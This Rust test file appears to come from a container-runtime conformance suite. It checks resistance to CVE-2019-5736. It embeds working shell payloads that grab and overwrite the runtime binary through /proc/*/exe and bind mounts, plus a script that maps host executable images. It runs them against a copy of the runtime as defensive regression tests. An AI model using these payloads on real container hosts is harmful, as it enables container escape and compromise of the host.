//! Class E: the payload gets hold of the runtime's own binary and overwrites it (CVE-2019-5736).

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::PathBuf;

use spec_tests::container::Container;
use spec_tests::root::copy_program;
use spec_tests::runtime::eventually;
use spec_tests::skip::known_to_fail_on_runc_1_1_5;
use spec_tests::subject::subject;

/// Holds the first foreign executable open that it may open, tries to get at a writable mount of it, and goes on
/// writing to it: that works as soon as no process runs it any more.
const OVERWRITER: &str = r#"
    own=$(stat -L -c %d:%i /bin/busybox)
    touch /ready /bound
    attack() {
        mount -o remount,bind,rw none /proc/self/fd/5
        mount -o bind /proc/self/fd/5 /bound && mount -o remount,bind,rw none /bound
        touch /held
        while [ ! -e /stop ]; do
            (echo overwritten > /proc/self/fd/5) && touch /won
            [ "$(stat -L -c %d:%i /bound)" = "$(stat -L -c %d:%i /proc/self/fd/5)" ] &&
                (echo overwritten > /bound) && touch /won
            touch /tried
        done
    }
    while [ ! -e /stop ]; do
        for process in /proc/[0-9]*; do
            { [ "$(stat -L -c %d:%i /proc/self/fd/5)" = "$own" ] || attack; } 5< $process/exe
            (echo overwritten > $process/exe) && touch /won
        done
    done 2> /dev/null
"#;

/// Writes down where the image of every foreign executable lies.
const COLLECTOR: &str = r#"
    own=$(stat -L -c %d:%i /bin/busybox)
    while true; do
        for process in /proc/[0-9]*; do
            {
                image=$(stat -L -c %d:%i /proc/self/fd/5)
                [ "$image" = "$own" ] || echo "$image" >> /images
            } 5< $process/exe 2> /dev/null
        done
    done
"#;

/// A sleeping container of a copy of the runtime, so that a success harms nobody.
fn with_a_copy_of_the_runtime(script: &str, capabilities: &[&str]) -> (Container, PathBuf) {
    let mut container = Container::new(|bundle| {
        bundle.sh(script);
        if !capabilities.is_empty() {
            bundle.capabilities(capabilities).set("/linux/seccomp", ());
        }
        fs::write(bundle.rootfs().join("shebang"), "#!/proc/self/exe\n").unwrap();
        fs::set_permissions(
            bundle.rootfs().join("shebang"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
    });
    let copy = container.dir.join("runtime");
    copy_program(&subject().path, &copy).unwrap();
    container.runtime.binary.clone_from(&copy);
    container.create().output().ok();
    container.start().ok();
    (container, copy)
}

/// Whether the attacker got hold of the binary at all.
fn attack(execute: impl Fn(&Container)) -> bool {
    attack_with(&[], execute)
}

fn attack_with(capabilities: &[&str], execute: impl Fn(&Container)) -> bool {
    let (mut container, copy) = with_a_copy_of_the_runtime(OVERWRITER, capabilities);
    let rootfs = container.bundle.rootfs();
    let there = |name: &str| rootfs.join(name).exists();
    eventually("the attacker is ready", || there("ready"));
    let held = (0..50).any(|_| {
        execute(&container);
        there("held")
    });
    if held {
        // The first may have begun while the binary ran.
        for _ in 0..2 {
            fs::remove_file(rootfs.join("tried")).ok();
            eventually("the attacker has tried", || there("tried"));
        }
    }
    // What is left of the copy may not do to clean up.
    container.runtime.binary.clone_from(&subject().path);
    fs::write(rootfs.join("stop"), "").unwrap();
    container.wait_stopped();
    assert_eq!(fs::read(copy).unwrap(), fs::read(&subject().path).unwrap(), "the runtime was overwritten");
    assert!(!there("won"), "something was overwritten");
    held
}

#[test]
fn the_binary_of_a_joining_process_is_not_overwritten() {
    attack(|container| {
        container.exec(&["true"]).output();
    });
}

#[test]
fn capabilities_do_not_make_the_binary_writable() {
    let all = ["CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_MKNOD"];
    let held = attack_with(&all, |container| {
        container.exec(&["true"]).output();
        container.exec(&["/shebang"]).output();
    });
    assert!(held, "nothing was attacked");
}

#[test]
fn the_binary_is_no_handle_on_a_filesystem_of_the_host() {
    known_to_fail_on_runc_1_1_5(|| {
        let (container, copy) = with_a_copy_of_the_runtime(COLLECTOR, &["CAP_SYS_PTRACE"]);
        let images = container.bundle.rootfs().join("images");
        eventually("a joining process is met", || {
            container.exec(&["true"]).output();
            container.exec(&["/proc/self/exe", "--version"]).output();
            images.exists()
        });
        let of_the_host = fs::metadata(copy).unwrap().dev();
        let images = fs::read_to_string(images).unwrap();
        let devices: Vec<u64> =
            images.lines().filter_map(|line| line.split_once(':')?.0.parse().ok()).collect();
        assert!(!devices.is_empty() && !devices.contains(&of_the_host), "{of_the_host} among {devices:?}");
    });
}

#[test]
fn a_payload_of_proc_self_exe_does_not_give_the_binary_away() {
    let held = attack(|container| {
        container.exec(&["/proc/self/exe", "--version"]).output();
    });
    assert!(held || subject().is_runc_1_1(), "nothing was attacked");
}

#[test]
fn an_interpreter_of_proc_self_exe_does_not_give_the_binary_away() {
    let held = attack(|container| {
        container.exec(&["/shebang"]).output();
    });
    assert!(held || subject().is_runc_1_1(), "nothing was attacked");
}

#[test]
fn an_entrypoint_of_proc_self_exe_writes_nothing() {
    for entrypoint in ["/proc/self/exe", "/shebang"] {
        let (mut container, copy) = with_a_copy_of_the_runtime("true", &[]);
        container.command(["delete", "--force", &container.id]).output().ok();
        container.bundle.args([entrypoint, "--version"]);
        container.run().output();
        assert_eq!(fs::read(copy).unwrap(), fs::read(&subject().path).unwrap());
    }
}

#[test]
fn the_binary_loads_no_library_that_a_container_could_replace() {
    known_to_fail_on_runc_1_1_5(|| {
        let elf = fs::read(&subject().path).unwrap();
        assert!(!has_interpreter(&elf), "the runtime is linked dynamically");
    });
}

/// Looks for PT_INTERP among the program headers of a 64-bit little-endian ELF file.
fn has_interpreter(elf: &[u8]) -> bool {
    let number = |offset: usize, length: usize| {
        elf[offset..offset + length].iter().rev().fold(0_usize, |value, byte| value << 8 | usize::from(*byte))
    };
    assert_eq!(&elf[..5], b"\x7fELF\x02", "a 64-bit ELF file");
    let (table, size, count) = (number(32, 8), number(54, 2), number(56, 2));
    (0..count).any(|index| number(table + index * size, 4) == 3)
}

#[test]
fn a_binary_that_is_bound_as_a_file_runs_itself() {
    let mut container = Container::new(|bundle| {
        bundle.args(["true"]);
    });
    let empty = container.file("corten", "");
    std::fs::set_permissions(&empty, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let bound = format!("mount --bind {} {empty}", spec_tests::subject::subject().path.display());
    container.runtime.binary = empty.into();
    let outcome = container.run().private_mounts().prologue(&bound).output();
    container.runtime.binary = spec_tests::subject::subject().path.clone();
    outcome.ok();
}
